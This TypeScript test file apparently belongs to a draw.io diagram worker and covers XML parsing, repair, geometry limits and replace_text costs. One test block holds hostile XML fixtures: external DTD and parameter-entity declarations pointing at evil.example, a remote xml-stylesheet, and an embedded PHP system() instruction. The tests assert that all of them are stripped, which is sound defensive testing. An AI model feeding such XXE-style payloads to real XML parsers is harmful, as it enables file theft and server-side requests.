import { describe, expect, it } from "vitest";
import { repairDiagram } from "../../../worker/drawio/check/repair.ts";
import { COORDINATE_LIMIT, validateXml } from "../../../worker/drawio/check/validate.ts";
import { DrawioError } from "../../../worker/drawio/errors.ts";
import { GraphSpecSchema } from "../../../worker/drawio/layout/spec.ts";
import type { DiagramPage } from "../../../worker/drawio/model/document.ts";
import { parseDiagram } from "../../../worker/drawio/model/parse.ts";
import { serializeDiagram, serializePage } from "../../../worker/drawio/model/serialize.ts";
import { applyOperations, REPLACE_TEXT_BUDGET } from "../../../worker/drawio/operations/apply.ts";
import { corpusFiles } from "../../fixtures/corpus.ts";
import { syntheticDiagram } from "../../fixtures/synthetic.ts";

const ROOTS = '<mxCell id="0"/><mxCell id="1" parent="0"/>';
const GEOMETRY = '<mxGeometry x="10" y="10" width="9" height="9" as="geometry"/>';
const model = (cells: string) => `<mxGraphModel><root>${ROOTS}${cells}</root></mxGraphModel>`;

describe("declarations draw.io never writes are never kept", () => {
  const hostile = [
    [
      "a doctype with parameter entities and an external DTD",
      `<?xml version="1.0"?><!DOCTYPE m SYSTEM "http://evil.example/m.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>${model("")}`,
    ],
    [
      "an xml-stylesheet instruction",
      `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?>${model("")}`,
    ],
    [
      "an instruction inside a cell",
      model(`<mxCell id="a" vertex="1" parent="1"><?php system("x") ?>${GEOMETRY}</mxCell>`),
    ],
    [
      "a doctype inside a cell",
      model(
        `<mxCell id="a" vertex="1" parent="1"><!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${GEOMETRY}</mxCell>`,
      ),
    ],
    [
      "an instruction inside a geometry of a page of an mxfile",
      `<mxfile><?xml-stylesheet href="x"?><diagram id="p" name="P">${model(`<mxCell id="a" vertex="1" parent="1"><mxGeometry width="9" height="9" as="geometry"><?pi x?></mxGeometry></mxCell>`)}</diagram></mxfile>`,
    ],
  ];
  it.each(hostile)("%s: dropped on the way in", (_name, xml) => {
    const out = serializeDiagram(parseDiagram(xml));
    expect(out).not.toMatch(/<!DOCTYPE|<\?|<!ENTITY/i);
    expect(validateXml(out).valid).toBe(true);
  });

  it.each(hostile)("%s: repair says it removed them", (_name, xml) => {
    const result = repairDiagram(xml);
    expect(result.changes.map((c) => c.code)).toContain("drop_declarations");
    expect(result.xml).not.toMatch(/<!DOCTYPE|<\?|<!ENTITY/i);
  });

  it("keeps reusing the source text of cells without them", () => {
    const xml = model(`<mxCell id="a" value="A" vertex="1" parent="1">${GEOMETRY}</mxCell>`);
    expect(serializeDiagram(parseDiagram(xml))).toContain(
      `<mxCell id="a" value="A" vertex="1" parent="1">${GEOMETRY}</mxCell>`,
    );
    expect(repairDiagram(xml).changes.map((c) => c.code)).not.toContain("drop_declarations");
  });
});

describe("geometry stays on the canvas", () => {
  const doc = () =>
    parseDiagram(model(`<mxCell id="a" vertex="1" parent="1">${GEOMETRY}</mxCell>`));

  it.each([
    { x: 1e308 },
    { y: -1e308 },
    { width: COORDINATE_LIMIT + 1 },
    { height: Number.POSITIVE_INFINITY },
    { x: Number.NaN },
  ])("set_geometry %j is refused", (geometry) => {
    expect(() => applyOperations(doc(), [{ op: "set_geometry", id: "a", ...geometry }])).toThrow(
      /invalid|too big|too small|finite|number/i,
    );
  });

  it("set_geometry at the limit is fine", () => {
    const { document } = applyOperations(doc(), [
      { op: "set_geometry", id: "a", x: -COORDINATE_LIMIT, width: COORDINATE_LIMIT },
    ]);
    expect(serializeDiagram(document)).toContain('x="-10000000"');
  });

  it("add and update with out-of-range XML geometry are refused", () => {
    const far =
      '<mxCell id="b" vertex="1" parent="1"><mxGeometry x="1e308" width="9" height="9" as="geometry"/></mxCell>';
    expect(() => applyOperations(doc(), [{ op: "add", xml: far }])).toThrow(
      /invalid_geometry|finite|beyond/,
    );
  });

  it("repair removes numbers draw.io cannot use, and says so", () => {
    const xml = model(
      `<mxCell id="a" vertex="1" parent="1"><mxGeometry x="Infinity" y="1e400" width="9" height="9" as="geometry"/></mxCell>` +
        `<mxCell id="e" edge="1" parent="1"><mxGeometry relative="1" as="geometry"><Array as="points"><mxPoint x="NaN" y="2"/></Array></mxGeometry></mxCell>`,
    );
    expect(validateXml(xml).valid).toBe(false);
    const result = repairDiagram(xml);
    expect(result.changes.filter((c) => c.code === "drop_invalid_geometry")).toHaveLength(3);
    expect(validateXml(result.xml as string).valid).toBe(true);
  });

  it("graph specs refuse infinite sizes and style numbers", () => {
    const spec = (node: object) => ({ nodes: [{ id: "a", ...node }], edges: [] });
    expect(GraphSpecSchema.safeParse(spec({ width: JSON.parse("1e400") })).success).toBe(false);
    expect(
      GraphSpecSchema.safeParse(spec({ style: { fontSize: JSON.parse("1e400") } })).success,
    ).toBe(false);
    expect(GraphSpecSchema.safeParse(spec({ width: 120 })).success).toBe(true);
  });
});

describe("replace_text stays cheap on large pages", () => {
  it("gives the same page as replacing in the whole XML and parsing it again (corpus)", () => {
    let checked = 0;
    for (const { name, xml } of corpusFiles()) {
      const doc = parseDiagram(xml);
      const page = doc.pages[0];
      const cell = page?.cells.find((c) => c.attrs.id !== undefined && c.attrs.id.length > 3);
      if (!page || !cell) continue;
      const search = `id="${cell.attrs.id}"`;
      const whole = serializePage(page);
      if (whole.split(search).length !== 2) continue;
      const replace = `${search} data-checked="${name.length}"`;
      const { document } = applyOperations(doc, [{ op: "replace_text", search, replace }]);
      // The same cells (the one changed cell is written anew, without its old indentation).
      const expected = parseDiagram(whole.replace(search, replace)).pages[0] as DiagramPage;
      expect(JSON.stringify(document.pages[0]?.cells), name).toBe(JSON.stringify(expected.cells));
      checked++;
    }
    expect(checked).toBeGreaterThan(60);
  });

  it("still handles a match across two cells by parsing the page again", () => {
    const xml = model(
      `<mxCell id="a" value="A" vertex="1" parent="1">${GEOMETRY}</mxCell><mxCell id="b" value="B" vertex="1" parent="1">${GEOMETRY}</mxCell>`,
    );
    const { document, changed } = applyOperations(parseDiagram(xml), [
      {
        op: "replace_text",
        search: `</mxCell><mxCell id="b" value="B"`,
        replace: `</mxCell><mxCell id="b" value="Bee"`,
      },
    ]);
    expect(changed).toEqual(["a"]);
    expect(serializeDiagram(document)).toContain('value="Bee"');
  });

  it(`refuses a batch that would read more than ${REPLACE_TEXT_BUDGET.toLocaleString("en-US")} characters, naming the operation`, () => {
    const doc = parseDiagram(syntheticDiagram({ cells: 40_000 }));
    const ops = Array.from({ length: 1_000 }, (_, i) => ({
      op: "replace_text",
      search: `id="e${i + 1}"`,
      replace: `id="e${i + 1}" tooltip="t"`,
    }));
    let error: unknown;
    try {
      applyOperations(doc, ops);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(DrawioError);
    expect(error).toMatchObject({
      code: "replace_text_too_expensive",
      operation: { op: "replace_text" },
    });
    expect((error as DrawioError).operation?.index).toBeGreaterThan(10);
  });
});
